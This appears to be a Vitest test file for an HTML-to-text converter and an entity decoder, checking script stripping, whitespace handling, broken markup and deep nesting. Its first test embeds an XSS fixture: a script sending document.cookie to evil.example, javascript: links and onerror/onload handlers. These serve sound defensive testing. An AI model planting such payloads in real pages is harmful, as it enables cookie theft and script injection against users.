import { describe, expect, it } from "vitest";
import { htmlToText } from "./html-text.ts";
import { decodeEntities } from "./html-entities.ts";

describe("htmlToText", () => {
  it("keeps text only: scripts, styles, handlers and javascript: links never come out", () => {
    const html = `<!doctype html><html><head><title>Quarterly &amp; report</title>
      <style>body { background: url("javascript:alert(1)") }</style>
      <script>window.location = "https://evil.example/?c=" + document.cookie</script></head>
      <body onload="alert('load')">
        <h1 class="x" onclick="alert(1)">Heading</h1>
        <p>Click <a href="javascript:alert('xss')" onmouseover="steal()">here</a> now.</p>
        <img src=x onerror="alert('img')"><svg onload="alert(2)"><text>svg text</text></svg>
        <noscript><img src="https://track.example/pixel"></noscript>
        <template><p>template content</p></template>
        <iframe src="https://evil.example">iframe fallback</iframe>
        <SCRIPT type="text/javascript">var x = "</p>"; alert(3)</SCRIPT >
        <p>After the script.</p>
      </body></html>`;
    const { text, title } = htmlToText(html);
    expect(title).toBe("Quarterly & report");
    expect(text).toBe("Heading\n\nClick here now.\n\nAfter the script.");
    for (const bad of [
      "alert",
      "javascript",
      "onerror",
      "evil",
      "cookie",
      "svg text",
      "template content",
      "iframe fallback",
      "pixel",
    ]) {
      expect(text).not.toContain(bad);
    }
  });

  it("turns blocks into line breaks and table cells into spaced text", () => {
    const html =
      "<div>one</div><div>two<br>three</div><ul><li>a</li><li>b</li></ul><table><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></table>";
    expect(htmlToText(html).text).toBe("one\ntwo\nthree\n\na\nb\n\nx y\nz");
  });

  it("keeps line breaks inside <pre> and collapses whitespace elsewhere", () => {
    expect(htmlToText("<p>a   b\n\n c</p><pre>line 1\nline 2</pre>").text).toBe("a b c\n\nline 1\nline 2");
  });

  it("survives broken markup: unclosed tags, quoted '>' in attributes, stray '<', comments", () => {
    expect(htmlToText("<p title=\"a > b\" data-x='<p>'>kept</p>").text).toBe("kept");
    expect(htmlToText("1 < 2 and 3 > 2").text).toBe("1 < 2 and 3 > 2");
    expect(htmlToText("<!-- <script>alert(1)</script> -->visible<!-- unclosed").text).toBe("visible");
    expect(htmlToText("<script>never closed alert(1)").text).toBe("");
    expect(htmlToText("<p>unclosed <b>bold").text).toBe("unclosed bold");
  });

  it("decodes named and numeric references, invalid code points to U+FFFD", () => {
    expect(
      decodeEntities(
        "&lt;b&gt; &quot;x&quot; &#39;y&#39; &#x6570;&#25454; &copy; &nbsp;|&bogus; &#0; &#x110000;",
      ),
    ).toBe("<b> \"x\" 'y' 数据 © \u00a0|&bogus; \ufffd \ufffd");
    expect(htmlToText("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>").text).toBe("<script>alert(1)</script>");
  });

  it("is linear on hostile nesting", () => {
    const html = "<div>".repeat(100_000) + "deep" + "</div>".repeat(100_000);
    expect(htmlToText(html).text).toBe("deep");
    const scripts = "<script>x</script>".repeat(50_000) + "end";
    expect(htmlToText(scripts).text).toBe("end");
  });
});
